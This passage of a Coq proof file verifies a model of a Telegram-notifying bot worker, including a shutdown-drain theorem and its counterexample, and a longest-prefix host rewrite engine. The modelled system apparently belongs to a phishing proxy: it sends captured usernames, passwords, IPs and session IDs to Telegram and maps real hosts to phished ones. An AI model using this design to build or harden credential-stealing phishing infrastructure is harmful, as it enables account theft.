  - now intros [= <-].
  - intros [= <-]. unfold known, Start. now destruct (notConfigured (bot s)).
  - destruct (stopChan (bot s)); [discriminate|]. now intros [= <-].
  - apply messageWorker_known.
Qed.

Lemma run_known (acts : list Action) (s s' : State) :
  Forall (fun a => ~ isEmission a) acts -> run E acts s = Some s' -> known s' = known s.
Proof.
  intros Hacts. revert s. induction Hacts as [|a rest Ha _ IH]; intros s; cbn [run].
  - now intros [= <-].
  - destruct (exec E a s) as [s1|] eqn:Hexec; [|discriminate].
    intros Hrun. rewrite (IH _ Hrun). now apply (exec_known a).
Qed.

Lemma isWorkerStep_not_emission (acts : list Action) :
  Forall isWorkerStep acts -> Forall (fun a => ~ isEmission a) acts.
Proof.
  intros Hacts. eapply Forall_impl; [exact Hacts|].
  intros [] H; cbn in *; tauto.
Qed.


Lemma wgWait_no_worker (sched : list Action) (s : State) :
  workers (bot s) = [] -> wgWait E sched s = Some s.
Proof.
  intros Hws. destruct sched; cbn [wgWait]; now rewrite Hws.
Qed.

Lemma offer_beside (msg : TelegramMessage) (s : State) :
  workers (bot (offer msg s)) = workers (bot s) /\
  stopChan (bot (offer msg s)) = stopChan (bot s) /\
  sendCalls (world (offer msg s)) = sendCalls (world s) /\
  exists more, pending (bot (offer msg s)) = (pending (bot s) ++ more)%list.
Proof.
  unfold offer, send.
  destruct (len (msgQueue (bot s)) <? cap (msgQueue (bot s)))%nat; cbn.
  - repeat split. exists [msg]. unfold pending. cbn. now rewrite omap_app.
  - repeat split. exists []. now rewrite app_nil_r.
Qed.

(** What a step of another goroutine, one that is not [Start], does while
    the stop channel is closed: it leaves the workers and the record of
    [sendMessage] alone, and the queue can only grow at its end. *)
Lemma exec_beside (a : Action) (s s1 : State) :
  ~ isStart a -> ~ isWorkerStep a -> stopChan (bot s) = true -> exec E a s = Some s1 ->
  workers (bot s1) = workers (bot s) /\ stopChan (bot s1) = true /\
  sendCalls (world s1) = sendCalls (world s) /\
  (exists more, pending (bot s1) = (pending (bot s) ++ more)%list) /\
  (~ isEmission a -> msgQueue (bot s1) = msgQueue (bot s)).
Proof.
  intros Hns Hnw Hstop.
  assert (Hsame : workers (bot s) = workers (bot s) /\ stopChan (bot s) = true /\
                  sendCalls (world s) = sendCalls (world s) /\
                  (exists more, pending (bot s) = (pending (bot s) ++ more)%list) /\
                  (~ isEmission a -> msgQueue (bot s) = msgQueue (bot s))).
  { split; [reflexivity|]. split; [exact Hstop|]. split; [reflexivity|].
    split; [exists []; now rewrite app_nil_r | reflexivity]. }
  destruct a; cbn in Hns, Hnw; try tauto; cbn [exec].
  - intros [= <-]. unfold SendCredentials. destruct (notConfigured (bot s)); [exact Hsame|].
    destruct (offer_beside {| ChatID := chatID (bot s);
                              Text := credentialsText sessionID username password ip
                                        userAgent domain now;
                              ParseMode := "Markdown" |} s) as (Hw & Hs & Hc & Hp).
    split; [exact Hw|]. split; [congruence|]. split; [exact Hc|]. split; [exact Hp|].
    cbn. tauto.
  - intros [= <-]. unfold SendSessionUpdate. destruct (notConfigured (bot s)); [exact Hsame|].
    destruct (offer_beside {| ChatID := chatID (bot s);
                              Text := sessionUpdateText sessionID updateType value ip now;
                              ParseMode := "Markdown" |} s) as (Hw & Hs & Hc & Hp).
    split; [exact Hw|]. split; [congruence|]. split; [exact Hc|]. split; [exact Hp|].
    cbn. tauto.
  - intros [= <-]. exact Hsame.
  - now rewrite Hstop.
Qed.

(** A step of the only worker once the stop channel is closed: where it
    goes from each place, and that it moves a message from the queue to
    [sendMessage] or moves nothing. *)
Lemma messageWorker_lone (i : nat) (pickStop : bool) (s s1 : State) (pc : WorkerPc) :
  workers (bot s) = [pc] -> stopChan (bot s) = true ->
  messageWorker E i pickStop s = Some s1 ->
  stopChan (bot s1) = true /\ known s1 = known s /\
  match pc with
  | AtSelect => workers (bot s1) = [AtSelect] \/ workers (bot s1) = [DrainCheck]
  | DrainCheck =>
      workers (bot s1) = [DrainRecv] \/
      (workers (bot s1) = [Returning] /\ buf (msgQueue (bot s1)) = [] /\ world s1 = world s)
  | DrainRecv => workers (bot s1) = [DrainCheck]
  | Returning =>
      workers (bot s1) = [] /\ msgQueue (bot s1) = msgQueue (bot s) /\ world s1 = world s
  end.
Proof.
  intros Hws Hstop Hstep. split; [|split; [exact (messageWorker_known _ _ _ _ Hstep)|]];
    unfold messageWorker in Hstep; rewrite Hws, Hstop in Hstep;
    (destruct i; cbn [lookup list_lookup] in Hstep; [|destruct i; discriminate]);
    destruct pc; cbn [insert list_insert delete list_delete] in Hstep.
  - destruct (recv (msgQueue (bot s))) as [[msg q]|]; [destruct pickStop|];
      now injection Hstep as <-.
  - destruct (0 <? len (msgQueue (bot s)))%nat; now injection Hstep as <-.
  - destruct (recv (msgQueue (bot s))) as [[msg q]|]; [|discriminate].
    now injection Hstep as <-.
  - now injection Hstep as <-.
  - destruct (recv (msgQueue (bot s))) as [[msg q]|]; [destruct pickStop|];
      injection Hstep as <-; cbn; auto.
  - destruct (Nat.ltb_spec 0 (len (msgQueue (bot s)))) as [Hpos|Hzero];
      injection Hstep as <-; cbn; [now left|right].
    repeat split. unfold len in Hzero. destruct (buf (msgQueue (bot s))); [reflexivity|].
    cbn in Hzero. lia.
  - destruct (recv (msgQueue (bot s))) as [[msg q]|]; [|discriminate].
    now injection Hstep as <-.
  - injection Hstep as <-. cbn. auto.
Qed.

Lemma isWorkerStep_or_not (a : Action) : isWorkerStep a \/ ~ isWorkerStep a.
Proof. destruct a; cbn; tauto. Qed.

(** Safety of the wait when nothing is emitted beside it: when the lone
    worker is gone, everything that was pending has been handed to
    [sendMessage], in order, and the queue is empty. *)
Lemma wgWait_drained (sched : list Action) (s s' : State) (pc : WorkerPc) :
  Forall (fun a => ~ isEmission a /\ ~ isStart a) sched ->
  stopChan (bot s) = true -> workers (bot s) = [pc] ->
  (pc = Returning -> buf (msgQueue (bot s)) = []) ->
  wgWait E sched s = Some s' ->
  workers (bot s') = [] /\ buf (msgQueue (bot s')) = [] /\
  sendCalls (world s') = known s.
Proof.
  intros Hsched. revert s pc.
  induction Hsched as [|a rest [Hne Hns] _ IH]; intros s pc Hstop Hws Hret; cbn [wgWait];
    rewrite Hws; [discriminate|].
  destruct (exec E a s) as [s1|] eqn:Hexec; [|discriminate]. intros Hwait.
  destruct (isWorkerStep_or_not a) as [Hw|Hnw].
  - destruct a; cbn in Hw; try contradiction. cbn [exec] in Hexec.
    destruct (messageWorker_lone _ _ _ _ _ Hws Hstop Hexec) as (Hstop1 & Hknown & Hpc).
    rewrite <- Hknown. destruct pc.
    + destruct Hpc as [Hw1|Hw1]; eapply IH; eauto; discriminate.
    + destruct Hpc as [Hw1|(Hw1 & Hbuf & _)]; eapply IH; eauto; discriminate.
    + eapply IH; eauto; discriminate.
    + destruct Hpc as (Hw1 & Hq & _).
      rewrite wgWait_no_worker in Hwait by exact Hw1. injection Hwait as <-.
      assert (Hbuf : buf (msgQueue (bot s1)) = []) by (rewrite Hq; auto).
      repeat split; auto. unfold known, pending. rewrite Hbuf. cbn. now rewrite app_nil_r.
  - destruct (exec_beside a s s1 Hns Hnw Hstop Hexec) as (Hw1 & Hstop1 & Hc & _ & Hq).
    specialize (Hq Hne).
    assert (Hknown : known s1 = known s) by (unfold known, pending; now rewrite Hc, Hq).
    rewrite <- Hknown. apply (IH s1 pc); auto; [congruence|]. rewrite Hq. exact Hret.
Qed.

(** Safety of the wait, whatever is emitted or configured beside it: when
    the lone worker is gone, the calls of [sendMessage] begin with [base],
    if the messages known when the wait began did. *)
Lemma wgWait_sent (sched : list Action) (s s' : State) (pc : WorkerPc)
    (base : list TelegramMessage) :
  Forall (fun a => ~ isStart a) sched ->
  stopChan (bot s) = true -> workers (bot s) = [pc] ->
  (exists later,
     match pc with Returning => sendCalls (world s) | _ => known s end
     = (base ++ later)%list) ->
  wgWait E sched s = Some s' ->
  workers (bot s') = [] /\ exists later, sendCalls (world s') = (base ++ later)%list.
Proof.
  intros Hsched. revert s pc.
  induction Hsched as [|a rest Hns _ IH]; intros s pc Hstop Hws Hbase; cbn [wgWait];
    rewrite Hws; [discriminate|].
  destruct (exec E a s) as [s1|] eqn:Hexec; [|discriminate]. intros Hwait.
  destruct (isWorkerStep_or_not a) as [Hw|Hnw].
  - destruct a; cbn in Hw; try contradiction. cbn [exec] in Hexec.
    destruct (messageWorker_lone _ _ _ _ _ Hws Hstop Hexec) as (Hstop1 & Hknown & Hpc).
    destruct pc.
    + destruct Hpc as [Hw1|Hw1]; apply (IH s1 _ Hstop1 Hw1); auto; now rewrite Hknown.
    + destruct Hpc as [Hw1|(Hw1 & Hbuf & _)]; apply (IH s1 _ Hstop1 Hw1); auto;
        [now rewrite Hknown|].
      destruct Hbase as [later Hlater]. exists later. rewrite <- Hlater, <- Hknown.
      unfold known, pending. rewrite Hbuf. cbn. now rewrite app_nil_r.
    + apply (IH s1 _ Hstop1 Hpc); auto. now rewrite Hknown.
    + destruct Hpc as (Hw1 & _ & Hworld).
      rewrite wgWait_no_worker in Hwait by exact Hw1. injection Hwait as <-.
      split; [exact Hw1|]. now rewrite Hworld.
  - destruct (exec_beside a s s1 Hns Hnw Hstop Hexec)
      as (Hw1 & Hstop1 & Hc & [more Hmore] & _).
    apply (IH s1 pc Hstop1); auto; [congruence|].
    destruct Hbase as [later Hlater].
    destruct pc; try (exists (later ++ more)%list; unfold known in *;
                      rewrite Hc, Hmore, app_assoc, Hlater, <- app_assoc; reflexivity).
    exists later. now rewrite Hc.
Qed.

(** Progress of the wait: a lone worker that is scheduled leaves within
    [drainSteps] steps, whatever its [select] picks. *)
Lemma wgWait_returns (pick : nat -> bool) (fuel : nat) :
  forall (from : nat) (s : State) (pc : WorkerPc),
    stopChan (bot s) = true -> workers (bot s) = [pc] ->
    (pc = DrainRecv -> 0 < len (msgQueue (bot s)))%nat ->
    (drainSteps pc (len (msgQueue (bot s))) <= fuel)%nat ->
    exists s', wgWait E (map (fun k => AWorker 0 (pick k)) (seq from fuel)) s = Some s'.
Proof.
  induction fuel as [|fuel IH]; intros from s pc Hstop Hws Hrecv Hfuel.
  - destruct pc; cbn in Hfuel; lia.
  - cbn [seq map wgWait]. rewrite Hws. cbn [exec]. unfold messageWorker.
    rewrite Hws, Hstop. cbn [lookup list_lookup].
    destruct pc; cbn in Hfuel.
    + unfold recv, len in *.
      destruct (buf (msgQueue (bot s))) as [|msg q] eqn:Hbuf.
      * apply (IH _ _ DrainCheck); cbn; auto; try discriminate.
        unfold len. rewrite Hbuf. cbn. lia.
      * cbn in Hfuel. destruct (pick from).
        -- apply (IH _ _ DrainCheck); cbn; auto; try discriminate.
           unfold len. rewrite Hbuf. cbn. lia.
        -- apply (IH _ _ AtSelect); cbn; auto; try discriminate.
           unfold len. cbn. lia.
    + destruct (Nat.ltb_spec 0 (len (msgQueue (bot s)))) as [Hpos|Hzero].
      * apply (IH _ _ DrainRecv); cbn; auto. lia.
      * apply (IH _ _ Returning); cbn; auto; [discriminate | lia].
    + specialize (Hrecv eq_refl). unfold recv, len in *.
      destruct (buf (msgQueue (bot s))) as [|msg q] eqn:Hbuf; [cbn in Hrecv; lia|].
      cbn in Hfuel. apply (IH _ _ DrainCheck); cbn; auto; try discriminate.
      unfold len. cbn. lia.
    + cbn [delete list_delete]. rewrite wgWait_no_worker by reflexivity. eauto.
Qed.


Lemma Stop_returns (pick : nat -> bool) (s : State) :
  workers (bot s) = [AtSelect] -> stopChan (bot s) = false ->
  exists s', Stop E (workerOnly pick (2 * len (msgQueue (bot s)) + 3)) s = Some s'.
Proof.
  intros Hws Hstop. unfold Stop, workerOnly. cbn [exec]. rewrite Hstop.
  apply (wgWait_returns pick _ 0 _ AtSelect); cbn; auto; discriminate.
Qed.



Lemma Stop_drained (sched : list Action) (s s' : State) :
  workers (bot s) = [AtSelect] -> stopChan (bot s) = false ->
  Forall (fun a => ~ isEmission a /\ ~ isStart a) sched -> Stop E sched s = Some s' ->
  workers (bot s') = [] /\ buf (msgQueue (bot s')) = [] /\
  sendCalls (world s') = known s.
Proof.
  intros Hws Hstop Hsched. unfold Stop. cbn [exec]. rewrite Hstop. intros Hwait.
  apply (wgWait_drained sched _ s' AtSelect Hsched) in Hwait; auto. discriminate.
Qed.

Lemma Stop_sent (sched : list Action) (s s' : State) :
  workers (bot s) = [AtSelect] -> stopChan (bot s) = false ->
  Forall (fun a => ~ isStart a) sched -> Stop E sched s = Some s' ->
  workers (bot s') = [] /\
  exists later, sendCalls (world s') = (known s ++ later)%list.
Proof.
  intros Hws Hstop Hsched. unfold Stop. cbn [exec]. rewrite Hstop. intros Hwait.
  apply (wgWait_sent sched _ s' AtSelect (known s) Hsched) in Hwait; auto.
  exists []. cbn. now rewrite app_nil_r.
Qed.

End Worker.

(** C3, as stated, fails: an event that is emitted after the worker's last
    test of [len(t.msgQueue)] and before its return is queued, and [Stop]
    returns with that message in the queue, handed to no [sendMessage]. *)
Lemma Stop_drains_counterexample :
  workers (bot startedState) = [AtSelect] /\
  stopChan (bot startedState) = false /\
  IsEnabled (bot startedState) = true /\
  exists s',
    Stop quietEnv lateEvent startedState = Some s' /\
    workers (bot s') = [] /\
    buf (msgQueue (bot s')) = [Some sampleMessage] /\
    sendCalls (world s') = [].
Proof.
  repeat (split; [reflexivity|]). eexists. split; [reflexivity|]. repeat split.
Qed.

(** C3, amended.  [Stop] on a bot whose worker was started: once the stop
    channel is closed the worker, however its [select] picks, leaves after at
    most 2 * len + 3 of its steps, so [Stop] returns.  Whatever other
    goroutines emit or configure in the meantime (no second worker is
    started), [Stop] returns only when the worker is gone, and by then every
    message that was pending at the call has been handed to [sendMessage], in
    queue order.  When nothing is emitted while [Stop] runs, these are all
    the calls and the queue is empty at the return. *)
Theorem Stop_drains (E : Env) (s : State)
    (Hws : workers (bot s) = [AtSelect]) (Hstop : stopChan (bot s) = false) :
  (forall pick, exists s',
      Stop E (workerOnly pick (2 * len (msgQueue (bot s)) + 3)) s = Some s') /\
  (forall sched s', Forall (fun a => ~ isStart a) sched -> Stop E sched s = Some s' ->
      workers (bot s') = [] /\
      exists later,
        sendCalls (world s') = (sendCalls (world s) ++ pending (bot s) ++ later)%list) /\
  (forall sched s', Forall (fun a => ~ isEmission a /\ ~ isStart a) sched ->
      Stop E sched s = Some s' ->
      buf (msgQueue (bot s')) = [] /\
      sendCalls (world s') = (sendCalls (world s) ++ pending (bot s))%list).
Proof.
  split; [|split].
  - intros pick. now apply Stop_returns.
  - intros sched s' Hsched Hret.
    destruct (Stop_sent E sched s s' Hws Hstop Hsched Hret) as (Hgone & later & Hsent).
    split; [exact Hgone|]. exists later. rewrite Hsent. unfold known.
    now rewrite <- app_assoc.
  - intros sched s' Hsched Hret.
    destruct (Stop_drained E sched s s' Hws Hstop Hsched Hret) as (_ & Hbuf & Hsent). auto.
Qed.

Lemma Stop_drains_witness :
  (forall pick, exists s',
      Stop quietEnv (workerOnly pick (2 * len (msgQueue (bot busyState)) + 3)) busyState
      = Some s') /\
  (forall sched s', Forall (fun a => ~ isStart a) sched ->
      Stop quietEnv sched busyState = Some s' ->
      workers (bot s') = [] /\
      exists later,
        sendCalls (world s') =
        (sendCalls (world busyState) ++ pending (bot busyState) ++ later)%list) /\
  (forall sched s', Forall (fun a => ~ isEmission a /\ ~ isStart a) sched ->
      Stop quietEnv sched busyState = Some s' ->
      buf (msgQueue (bot s')) = [] /\
      sendCalls (world s') = (sendCalls (world busyState) ++ pending (bot busyState))%list).
Proof.
  apply (Stop_drains quietEnv busyState); reflexivity.
Defined.




(** * Properties of the rewrite engine *)

Section RewriteEngine.

Import Core.

Lemma prefix_app (f rest : string) : String.prefix f (f ++ rest) = true.
Proof.
  induction f as [|a f IH]; simpl; [now destruct rest|].
  destruct (ascii_dec a a); [exact IH | congruence].
Qed.

Lemma prefix_split (f s : string) :
  String.prefix f s = true -> exists rest, s = f ++ rest.
Proof.
  revert s. induction f as [|a f IH]; intros s.
  - intros _. now exists s.
  - destruct s as [|b s]; simpl; [discriminate|].
    destruct (ascii_dec a b) as [->|]; [|discriminate].
    intros Hp. destruct (IH s Hp) as [rest ->]. now exists rest.
Qed.

(** Two prefixes of one string that are equally long are equal. *)
Lemma prefix_same_length (f g s : string) :
  String.prefix f s = true -> String.prefix g s = true ->
  String.length f = String.length g -> f = g.
Proof.
  revert g s. induction f as [|a f IH]; intros [|b g] [|c s]; simpl; try discriminate; auto.
  destruct (ascii_dec a c) as [->|]; [|discriminate].
  destruct (ascii_dec b c) as [->|]; [|discriminate].
  intros Hf Hg [= Hlen]. f_equal. now apply (IH g s).
Qed.

(** A host name without the byte [c] that starts [f ++ c ...] ends within
    [f]. *)
Lemma prefix_before_delimiter (f g rest : string) (c : ascii) :
  String.prefix g (f ++ String c rest) = true -> occurs c g = false ->
  (String.length g <= String.length f)%nat.
Proof.
  revert g. induction f as [|a f IH]; intros [|b g]; simpl; try lia.
  - destruct (ascii_dec b c) as [->|]; [|discriminate].
    rewrite Ascii.eqb_refl. discriminate.
  - destruct (ascii_dec b a) as [->|]; [|discriminate].
    intros Hp Hocc. apply orb_false_elim in Hocc. destruct Hocc as [_ Hocc].
    specialize (IH g Hp Hocc). lia.
Qed.

Lemma prefix_first_byte (g rest : string) (c : ascii) :
  String.prefix g (String c rest) = true -> occurs c g = false -> g = "".
Proof.
  intros Hp Hocc. pose proof (prefix_before_delimiter "" g rest c Hp Hocc) as Hlen.
  destruct g; [reflexivity | cbn in Hlen; lia].
Qed.

Lemma lookupRule_In (rs : list (string * string)) (from to : string) :
  lookupRule rs from = Some to -> In (from, to) rs.
Proof.
  unfold lookupRule. induction rs as [|[f t] rs IH]; cbn; [discriminate|].
  destruct (String.eqb_spec f from) as [->|Hne]; cbn.
  - intros [= ->]. now left.
  - intros H. right. now apply IH.
Qed.

Lemma applicable_spec (input : string) (r : string * string) :
  applicable input r = true <-> fst r <> "" /\ String.prefix (fst r) input = true.
Proof.
  unfold applicable. rewrite andb_true_iff, negb_true_iff.
  destruct (String.eqb_spec (fst r) ""); intuition congruence.
Qed.

Lemma longestMatch_None (rs : list (string * string)) (input : string) :
  longestMatch rs input = None <-> forall r, In r rs -> applicable input r = false.
Proof.
  induction rs as [|r rs IH]; cbn [longestMatch]; [easy|].
  destruct (applicable input r) eqn:Happ.
  - split.
    + now destruct (longestMatch rs input) as [b|];
        [destruct (String.length (fst r) <? String.length (fst b))%nat|].
    + intros H. specialize (H r (or_introl eq_refl)). congruence.
  - rewrite IH. split.
    + intros H r' [<-|Hin]; auto.
    + intros H r' Hin. apply H. now right.
Qed.

(** What [longestMatch] returns: an applicable pair, at least as long as
    every applicable pair, and the first pair listed for its host name. *)
Lemma longestMatch_Some (rs : list (string * string)) (input : string) (b : string * string) :
  longestMatch rs input = Some b ->
  applicable input b = true /\
  (forall r, In r rs -> applicable input r = true ->
             (String.length (fst r) <= String.length (fst b))%nat) /\
  lookupRule rs (fst b) = Some (snd b).
Proof.
  revert b. induction rs as [|r rs IH]; intros b; cbn [longestMatch]; [discriminate|].
  destruct (applicable input r) eqn:Happ.
  - destruct (longestMatch rs input) as [b0|] eqn:Hbest.
    + destruct (IH b0 eq_refl) as (Hb0 & Hmax & Hfirst).
      destruct (Nat.ltb_spec (String.length (fst r)) (String.length (fst b0))) as [Hlt|Hge];
        intros [= <-].
      * split; [exact Hb0|]. split.
        -- intros r' [<-|Hin] Hr'; [lia | now apply Hmax].
        -- unfold lookupRule. cbn [find].
           destruct (String.eqb_spec (fst r) (fst b0)) as [Heq|_]; [|exact Hfirst].
           rewrite Heq in Hlt. lia.
      * split; [exact Happ|]. split.
        -- intros r' [<-|Hin] Hr'; [lia|]. specialize (Hmax r' Hin Hr'). lia.
        -- unfold lookupRule. cbn [find]. now rewrite String.eqb_refl.
    + intros [= <-]. split; [exact Happ|]. split.
      * intros r' [<-|Hin] Hr'; [lia|]. exfalso.
        rewrite longestMatch_None in Hbest. rewrite (Hbest r' Hin) in Hr'. discriminate.
      * unfold lookupRule. cbn [find]. now rewrite String.eqb_refl.
  - intros Hbest. destruct (IH b Hbest) as (Hb & Hmax & Hfirst).
    split; [exact Hb|]. split.
    + intros r' [<-|Hin] Hr'; [congruence | now apply Hmax].
    + unfold lookupRule. cbn [find].
      destruct (String.eqb_spec (fst r) (fst b)) as [Heq|_]; [|exact Hfirst].
      unfold applicable in Happ, Hb. rewrite Heq in Happ. congruence.
Qed.

(** The pair for [from] is chosen when [from] starts the input and no
    applicable pair is longer. *)
Lemma longestMatch_exact (rs : list (string * string)) (from to input : string) :
  lookupRule rs from = Some to -> from <> "" -> String.prefix from input = true ->
  (forall r, In r rs -> applicable input r = true ->
             (String.length (fst r) <= String.length from)%nat) ->
  longestMatch rs input = Some (from, to).
Proof.
  intros Hfirst Hne Hpre Hmax.
  assert (Happ : applicable input (from, to) = true) by now apply applicable_spec.
  destruct (longestMatch rs input) as [[f t]|] eqn:Hbest.
  - destruct (longestMatch_Some rs input (f, t) Hbest) as (Hb & Hlong & Hf).
    cbn [fst snd] in *.
    assert (f = from) as ->.
    { pose proof Hb as Hb'. apply applicable_spec in Hb'. destruct Hb' as [_ Hfpre].
      apply (prefix_same_length f from input Hfpre Hpre).
      specialize (Hlong (from, to) (lookupRule_In rs from to Hfirst) Happ).
      specialize (Hmax (f, t) (lookupRule_In rs f t Hf) Hb). cbn [fst] in *. lia. }
    congruence.
  - rewrite longestMatch_None in Hbest.
    rewrite (Hbest (from, to) (lookupRule_In rs from to Hfirst)) in Happ. discriminate.
Qed.

Lemma substitute_skip (rs : list (string * string)) (u rest : string) :
  substitute rs (String.length u) (u ++ rest) = substitute rs 0 rest.
Proof.
  induction u as [|a u IH]; simpl; [now destruct rest | exact IH].
Qed.

(** At a match the replacement is written and reading goes on behind the
    matched host name. *)
Lemma substitute_match (rs : list (string * string)) (from to rest : string) :
  from <> "" -> longestMatch rs (from ++ rest) = Some (from, to) ->
  substitute rs 0 (from ++ rest) = to ++ substitute rs 0 rest.
Proof.
  destruct from as [|a from]; [congruence|]. intros _ Hbest.
  change (String a from ++ rest) with (String a (from ++ rest)) in *.
  cbn [substitute]. rewrite Hbest.
  replace (String.length (String a from) - 1)%nat with (String.length from)
    by (cbn [String.length]; lia).
  now rewrite substitute_skip.
Qed.

Lemma substitute_copy (rs : list (string * string)) (c : ascii) (rest : string) :
  longestMatch rs (String c rest) = None ->
  substitute rs 0 (String c rest) = String c (substitute rs 0 rest).
Proof. intros Hbest. cbn [substitute]. now rewrite Hbest. Qed.

Lemma substitute_untouched (rs : list (string * string)) (pre next : string) :
  untouched rs pre next = true ->
  substitute rs 0 (pre ++ next) = pre ++ substitute rs 0 next.
Proof.
  induction pre as [|a pre IH]; [reflexivity|]. cbn [untouched].
  destruct (longestMatch rs (String a pre ++ next)) eqn:Hbest; [discriminate|].
  intros Hpre. change (String a pre ++ next) with (String a (pre ++ next)) in *.
  rewrite (substitute_copy rs a _ Hbest). cbn. now rewrite (IH Hpre).
Qed.

Lemma append_empty (s : string) : s ++ "" = s.
Proof.
  induction s as [|a s IH]; [reflexivity|].
  change (String a s ++ "") with (String a (s ++ "")). now rewrite IH.
Qed.

Lemma prefix_length (g s : string) :
  String.prefix g s = true -> (String.length g <= String.length s)%nat.
Proof.
  revert s. induction g as [|a g IH]; intros [|b s]; simpl; try lia; try discriminate.
  destruct (ascii_dec a b); [|discriminate]. intros Hp. specialize (IH s Hp). lia.
Qed.

Lemma substitute_delimiter (rs : list (string * string)) (c : ascii) (rest : string) :
  (forall r, In r rs -> occurs c (fst r) = false) ->
  substitute rs 0 (String c rest) = String c (substitute rs 0 rest).
Proof.
  intros Hdel. apply substitute_copy. apply longestMatch_None. intros r Hin.
  destruct (applicable (String c rest) r) eqn:Happ; [|reflexivity].
  apply applicable_spec in Happ. destruct Happ as [Hne Hpre].
  now rewrite (prefix_first_byte _ _ _ Hpre (Hdel r Hin)) in Hne.
Qed.

(** A host name that is followed by a delimiter is replaced by its own
    pair, and reading goes on behind the delimiter. *)
Lemma substitute_host (rs : list (string * string)) (from to rest : string) (c : ascii) :
  lookupRule rs from = Some to -> from <> "" ->
  (forall r, In r rs -> occurs c (fst r) = false) ->
  substitute rs 0 (from ++ String c rest) = to ++ String c (substitute rs 0 rest).
Proof.
  intros Hfirst Hne Hdel.
  rewrite (substitute_match rs from to (String c rest) Hne).
  - now rewrite substitute_delimiter.
  - apply longestMatch_exact; auto using prefix_app.
    intros r Hin Happ. apply applicable_spec in Happ. destruct Happ as [_ Hpre].
    exact (prefix_before_delimiter from (fst r) rest c Hpre (Hdel r Hin)).
Qed.

(** A host name that is the whole input is replaced by its own pair. *)
Lemma substitute_host_alone (rs : list (string * string)) (from to : string) :
  lookupRule rs from = Some to -> from <> "" -> substitute rs 0 from = to.
Proof.
  intros Hfirst Hne.
  rewrite <- (append_empty from) at 1.
  rewrite (substitute_match rs from to "" Hne).
  - apply append_empty.
  - rewrite append_empty. apply longestMatch_exact; auto.
    + rewrite <- (append_empty from) at 2. apply prefix_app.
    + intros r _ Happ. apply applicable_spec in Happ. destruct Happ as [_ Hpre].
      now apply prefix_length.
Qed.

Lemma append_assoc (a b c : string) : (a ++ b) ++ c = a ++ (b ++ c).
Proof.
  induction a as [|x a IH]; [reflexivity|].
  change (String x ((a ++ b) ++ c) = String x (a ++ (b ++ c))). now rewrite IH.
Qed.

Lemma prefix_within (g v w : string) :
  String.prefix g (v ++ w) = true -> (String.length g <= String.length v)%nat ->
  String.prefix g v = true.
Proof.
  revert v. induction g as [|a g IH]; intros [|b v]; simpl; intros Hp Hlen;
    try reflexivity; try lia.
  destruct (ascii_dec a b); [|discriminate Hp]. apply IH; [exact Hp | lia].
Qed.

Lemma prefix_extend (g v w : string) :
  String.prefix g v = true -> String.prefix g (v ++ w) = true.
Proof.
  revert v. induction g as [|a g IH]; intros [|b v]; simpl; intros Hp;
    try reflexivity; try discriminate Hp; [now destruct w|].
  destruct (ascii_dec a b); [now apply IH | discriminate Hp].
Qed.

(** A pair whose host name is without the byte [c] and starts [y ++ c ...]
    lies within [y]; what stands behind [y] does not matter to it. *)
Lemma applicable_before_delimiter (r : string * string) (y n w : string) (c : ascii) :
  occurs c (fst r) = false ->
  applicable (y ++ String c n) r = true -> applicable (y ++ w) r = true.
Proof.
  intros Hocc Happ. apply applicable_spec in Happ. destruct Happ as [Hne Hpre].
  apply applicable_spec. split; [exact Hne|]. apply prefix_extend.
  apply (prefix_within _ _ _ Hpre). exact (prefix_before_delimiter y (fst r) n c Hpre Hocc).
Qed.

(** Whether a stretch is untouched depends on what follows it only up to
    the next delimiter. *)
Lemma untouched_upto_delimiter (rs : list (string * string)) (pre x n w : string)
    (c : ascii) :
  (forall r, In r rs -> occurs c (fst r) = false) ->
  untouched rs pre (x ++ w) = true -> untouched rs pre (x ++ String c n) = true.
Proof.
  intros Hdel. induction pre as [|a pre IH]; [reflexivity|]. cbn [untouched].
  destruct (longestMatch rs (String a pre ++ x ++ w)) eqn:Hw; [discriminate|].
  intros Hrest. rewrite longestMatch_None in Hw.
  destruct (longestMatch rs (String a pre ++ x ++ String c n)) as [b|] eqn:Hc;
    [|now apply IH].
  exfalso. destruct (longestMatch_Some rs _ b Hc) as (Happ & _ & Hfirst).
  assert (Hin : In b rs).
  { destruct b as [f t]. now apply lookupRule_In. }
  rewrite <- append_assoc in Happ.
  apply (applicable_before_delimiter b _ n w c (Hdel b Hin)) in Happ.
  rewrite append_assoc in Happ. rewrite (Hw b Hin) in Happ. discriminate.
Qed.

Lemma lookupRule_rules (d : Direction) (hosts : list ProxyHost) (host : string) :
  lookupRule (rules d hosts) host = resolve d hosts host.
Proof.
  unfold lookupRule, resolve, resolvePhishedHost, resolveRealHost.
  induction hosts as [|ph hosts IH]; [now destruct d|].
  destruct d; cbn [rules map find fst] in *.
  - destruct (String.eqb (origHost ph) host); [reflexivity | exact IH].
  - destruct (String.eqb (phishHost ph) host); [reflexivity | exact IH].
Qed.

Lemma resolvePhishedHost_In (hosts : list ProxyHost) (h p : string) :
  resolvePhishedHost hosts h = Some p -> In p (map phishHost hosts).
Proof.
  unfold resolvePhishedHost. induction hosts as [|ph hosts IH]; cbn; [discriminate|].
  destruct (String.eqb (origHost ph) h); cbn.
  - intros [= <-]. now left.
  - intros H. right. now apply IH.
Qed.

Lemma uniqueb_head (x : string) (l : list string) :
  uniqueb (x :: l) = true -> ~ In x l /\ uniqueb l = true.
Proof.
  cbn. rewrite andb_true_iff, negb_true_iff. intros [Hnot Hrest]. split; [|exact Hrest].
  intros Hin. assert (existsb (String.eqb x) l = true); [|congruence].
  apply existsb_exists. exists x. split; [exact Hin | apply String.eqb_refl].
Qed.

(** With unique phished hosts the two lookups are inverse to each other. *)
Lemma resolve_back (hosts : list ProxyHost) (h p : string) :
  uniqueb (map phishHost hosts) = true ->
  resolvePhishedHost hosts h = Some p -> resolveRealHost hosts p = Some h.
Proof.
  unfold resolveRealHost.
  induction hosts as [|ph hosts IH]; [discriminate|].
  cbn [map]. intros Huniq Hres. apply uniqueb_head in Huniq. destruct Huniq as [Hnot Huniq].
  unfold resolvePhishedHost in Hres. cbn [find] in *.
  destruct (String.eqb_spec (origHost ph) h) as [Heq|Hne].
  - cbn in Hres. injection Hres as <-. rewrite String.eqb_refl. cbn. now f_equal.
  - destruct (String.eqb_spec (phishHost ph) p) as [Heq|_].
    + exfalso. apply Hnot. rewrite Heq. now apply (resolvePhishedHost_In hosts h).
    + now apply IH.
Qed.

Lemma isSubdomainOf_nonempty (base host : string) :
  isSubdomainOf base host = true -> host <> "".
Proof.
  unfold isSubdomainOf. intros H ->. apply andb_true_iff in H. destruct H as [H _].
  apply Nat.ltb_lt in H. cbn in H. lia.
Qed.

